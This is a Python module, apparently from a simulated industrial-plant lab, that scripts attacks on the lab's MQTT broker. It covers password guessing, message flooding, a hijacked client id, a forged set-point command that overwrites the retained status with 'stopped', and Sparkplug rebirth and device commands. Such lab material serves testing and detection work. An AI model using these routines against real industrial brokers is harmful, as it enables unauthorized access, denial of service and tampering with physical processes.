"""What the public address of the demo does to the MQTT broker: guessing, flooding, commands, a client id taken over."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

from compose.plant import sparkplug
from compose.plant.addresses import MQTT_PORT, ip
from compose.plant.lab import Lab
from compose.plant.mqtt_nodes import COMMAND_TOPIC, STATUS_TOPIC, Node
from compose.plant.proofs_mqtt_raw import connect, packet, text
from compose.plant.sparkplug import REBIRTH, Metric, payload, topic

_GUESSES = 150
_FLOOD, _AT_ONCE = 1500, 10  # publications, and how many go into one segment


def as_client(
    client_id: str, user: str, act: Callable[[Node], object], seconds: float = 1.0
) -> Callable[[Lab], object]:
    """A step that logs in, acts, stays for a while and leaves."""

    def work(lab: Lab) -> None:
        intruder = Node(lab, "internet", client_id, user).connect()
        act(intruder)
        time.sleep(seconds)
        intruder.close()

    return work


def _exchange(sent: bytes) -> None:
    with socket.create_connection((ip("broker"), MQTT_PORT), timeout=2) as link:
        link.sendall(sent)
        link.recv(64)


def guess_passwords(lab: Lab) -> None:
    """Guess the operator's password, ten times a second, as a script does."""

    def work() -> None:
        for number in range(_GUESSES):
            _exchange(connect(b"probe-%d" % (number % 10), password=b"guess-%d" % number))
            time.sleep(0.1)

    lab["internet"].call(work)


def flood(lab: Lab) -> None:
    """Publish 250 messages a second to one topic."""

    def work() -> None:
        with socket.create_connection((ip("broker"), MQTT_PORT), timeout=2) as link:
            link.sendall(connect(b"bench-1"))
            link.recv(64)
            for number in range(_FLOOD // _AT_ONCE):
                link.sendall(packet(0x30, text(b"bench/a") + b"%08d" % number) * _AT_ONCE)
                time.sleep(_AT_ONCE / 250)

    lab["internet"].call(work)


def command(intruder: Node) -> None:
    """Order a set-point by JSON, and replace the line's retained status."""
    intruder.publish(COMMAND_TOPIC, {"level_setpoint": 2900}, qos=1)
    intruder.publish(STATUS_TOPIC, "stopped", qos=1, retain=True)


def sparkplug_commands(intruder: Node) -> None:
    """Ask the edge node for a rebirth, order a set-point of its device."""
    intruder.publish(topic("NCMD"), payload([Metric(REBIRTH, sparkplug.BOOLEAN, True)], None))
    order = [Metric("Level set-point", sparkplug.INT32, 3900)]
    intruder.publish(topic("DCMD", sparkplug.DEVICE), payload(order, None))
